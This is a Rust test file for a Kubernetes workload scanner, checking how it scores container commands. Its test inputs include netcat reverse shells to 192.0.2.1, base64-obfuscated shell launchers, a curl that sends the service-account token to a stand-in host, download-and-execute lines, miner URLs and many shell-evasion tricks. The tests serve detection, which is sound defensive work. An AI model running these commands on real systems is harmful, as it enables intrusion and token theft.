use super::*;
use crate::detect::catalog;

/// Rules that describe everyday scripts as much as attacks.
fn weak() -> impl Iterator<Item = &'static Rule> {
    TABLES.into_iter().flatten().filter(|rule| rule.points < 15)
}

#[test]
fn weak_rules_together_stay_below_high() {
    let mut points: Vec<i32> = weak().map(|rule| rule.points).collect();
    points.sort_unstable_by(|a, b| b.cmp(a));
    let sum = crate::score::weighted(points);
    assert!(sum < 45, "{sum}");
    assert!(weak().all(|rule| rule.severity <= Severity::Low), "a weak rule that is not");
}

#[test]
fn rules_of_commands_come_in_the_catalogue() {
    assert!(catalog::rule("cmd-in-hook-or-probe").is_some());
    assert_eq!(
        TABLES.last().and_then(|table| table.last()).map(|rule| rule.id),
        Some("cmd-in-hook-or-probe")
    );
}

/// Severity and floors of a Job with this container.
fn judged(container: &str) -> (Severity, Vec<&'static str>) {
    let container: serde_json::Value = serde_saphyr::from_str(container).unwrap();
    let object = serde_json::from_value(serde_json::json!({"metadata": {"name": "j", "namespace": "n"},
        "spec": {"template": {"spec": {"containers": [container]}}}}))
    .unwrap();
    let score = crate::assess::assess(crate::workload::Kind::Job, &object).score;
    (score.severity, score.floors.iter().map(|floor| floor.id).collect())
}

#[test]
fn a_miner_by_name_is_critical_and_one_by_options_is_not_raised() {
    let known = judged("{name: a, command: [/x, --url, 'stratum+tcp://p.example.test:1']}");
    assert_eq!(known, (Severity::Critical, vec!["known-miner"]));
    let image = judged("{name: a, image: 'example.test/xmrig:6'}");
    assert_eq!(image, (Severity::Critical, vec!["known-miner"]));
    let (severity, floors) =
        judged("{name: a, command: [/x, --donate-level, '1', -o, 'p.example.test:1', -u, W]}");
    assert_eq!((severity, floors.len()), (Severity::High, 0));
}

#[test]
fn a_token_that_is_sent_away_is_at_least_high() {
    let token = "/run/secrets/kubernetes.io/serviceaccount/token";
    let (severity, floors) =
        judged(&format!("{{name: a, command: [curl, -d, '@{token}', 'https://x.example.test']}}"));
    assert_eq!((severity, floors), (Severity::High, vec!["token-sent-away"]));
    let upload = format!("cat {token}; curl -F 'f=@/out/report' https://x.example.test");
    let (_, floors) = judged(&format!("{{name: a, command: [sh, -c, \"{upload}\"]}}"));
    assert_eq!(floors.len(), 0, "an ordinary file beside it is no theft of the token");
}

#[test]
fn decoded_text_is_marked_and_judged_in_every_layer() {
    for command in [
        // A shell that reads a decoder.
        r#"[sh, -c, "echo bmMgMTkyLjAuMi4xIDEgLWUgc2g= | base64 -d | sh"]"#,
        // Code that decodes for a shell.
        r#"[python3, -c, "import os,base64;os.system(base64.b64decode('bmMgMTkyLjAuMi4xIDEgLWUgc2g='))"]"#,
        // Code that decodes code that calls a shell.
        r#"[perl, -e, "eval decode_base64('c3lzdGVtKCJuYyAxOTIuMC4yLjEgMSAtZSBzaCIp')"]"#,
    ] {
        let container: serde_json::Value =
            serde_saphyr::from_str(&format!("{{name: a, command: {command}}}")).unwrap();
        let object = serde_json::from_value(
            serde_json::json!({"spec": {"template": {"spec": {"containers": [container]}}}}),
        )
        .unwrap();
        let findings = crate::assess::assess(crate::workload::Kind::Job, &object).findings;
        let shell = findings.by_rule().find(|(rule, _)| rule.id == "cmd-reverse-shell");
        let evidence = shell.and_then(|(_, hits)| hits.first()).map(|hit| hit.evidence.as_str().to_owned());
        assert_eq!(evidence.as_deref(), Some("(decoded) nc 192.0.2.1 1 -e sh"), "{command}");
        assert!(findings.by_rule().any(|(rule, _)| rule.id == "cmd-obfuscated"), "{command}");
    }
}

#[test]
fn text_is_followed_through_files_substitutions_and_tools() {
    let shell = "nc 192.0.2.1 1 -e sh";
    for script in [
        format!("echo '{shell}' > /tmp/a; sh < /tmp/a"),
        format!("echo '{shell}' > /tmp/a; cat /tmp/a | sh"),
        format!("echo '{shell}' > /tmp/a; eval \"$(cat /tmp/a)\""),
        format!("echo '{shell}' > /tmp/a; mv /tmp/a /tmp/b; . /tmp/b"),
        format!("cd /tmp; echo '{shell}' > a; sh /tmp/a"),
        "curl -o /tmp/../tmp/m http://192.0.2.1/m; chmod +x /tmp//m; /proc/self/root/tmp/m".to_owned(),
        format!("tee /tmp/a > /dev/null <<E\n{shell}\nE\nsh /tmp/a"),
        format!("bash <(echo '{shell}')"),
        format!("source <(printf '%s' '{shell}' | cat)"),
        format!("{{ echo x | cat; echo '{shell}'; }} | sh"),
        format!("sed -n '1e {shell}' /etc/hosts"),
        format!("awk 'BEGIN {{ print \"{shell}\" | \"sh\" }}'"),
    ] {
        let container = serde_json::json!({"name": "a", "command": ["bash", "-c", script]}).to_string();
        assert!(judged(&container).0 >= Severity::High, "{script}");
    }
    for script in [
        format!("echo '{shell}' > /tmp/a; cat /tmp/a | wc -l"),
        format!("echo '{shell}' > /tmp/a; mv /tmp/a /srv/report; echo done | sh"),
        format!("diff <(echo '{shell}') /etc/hosts"),
    ] {
        let container = serde_json::json!({"name": "a", "command": ["bash", "-c", script]}).to_string();
        assert!(judged(&container).0 < Severity::Medium, "{script}");
    }
}

/// A script that applies a pod, whose script applies a pod, and so on, the innermost with this command.
fn nested(levels: usize, innermost: &str) -> serde_json::Value {
    let mut argv = serde_json::json!(["sh", "-c", innermost]);
    for _ in 0..levels {
        let pod = serde_json::json!({"kind": "Pod", "apiVersion": "v1",
            "spec": {"containers": [{"name": "c", "image": "example.test/x:1", "command": argv}]}});
        argv = serde_json::json!(["kubectl", "run", "x", format!("--overrides={pod}")]);
    }
    argv
}

#[test]
fn a_workload_in_a_workload_is_as_severe_as_by_itself_two_deep() {
    let shell = "nc 192.0.2.1 4444 -e /bin/sh";
    for (levels, least) in
        [(0, Severity::High), (1, Severity::High), (2, Severity::High), (3, Severity::None)]
    {
        let container = serde_json::json!({"name": "a", "command": nested(levels, shell)}).to_string();
        assert!(judged(&container).0 >= least, "{levels}");
        let harmless =
            serde_json::json!({"name": "a", "command": nested(levels, "/app/migrate")}).to_string();
        assert!(judged(&harmless).0 <= Severity::Low, "{levels}");
    }
}

#[test]
fn many_manifests_in_one_script_cost_little_and_the_first_ones_count() {
    let pod = "kubectl apply -f - <<X\nkind: Pod\nspec: {hostPID: true, containers: [{name: c, image: a, \
               securityContext: {privileged: true}}]}\nX\n";
    let many: String = (0..1_000).map(|n| pod.replace("image: a", &format!("image: a{n}"))).collect();
    let container = serde_json::json!({"name": "a", "command": ["sh", "-c", many]}).to_string();
    assert!(judged(&container).0 >= Severity::High);
    // Braces that never close, and kinds in them.
    let open = "{kind ".repeat(20_000);
    let container = serde_json::json!({"name": "a", "command": ["python3", "-c", open]}).to_string();
    assert!(judged(&container).0 <= Severity::Low);
}
